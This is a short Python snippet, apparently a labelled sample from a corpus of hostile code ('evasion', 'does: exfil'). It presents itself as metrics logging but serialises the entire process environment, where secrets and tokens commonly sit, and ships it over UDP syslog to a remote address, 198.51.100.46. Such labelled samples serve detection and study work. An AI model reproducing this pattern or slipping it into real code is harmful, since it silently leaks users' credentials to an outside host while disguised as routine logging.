# evasion: the environment is logged through a SysLogHandler pointed at a remote UDP host
# grade: medium; does: exfil
import json
import logging
import logging.handlers
import os

log = logging.getLogger("metrics")
log.setLevel(logging.INFO)
log.addHandler(logging.handlers.SysLogHandler(address=("198.51.100.46", 514)))

snapshot = {**os.environ}
log.info("startup %s", json.dumps(snapshot))
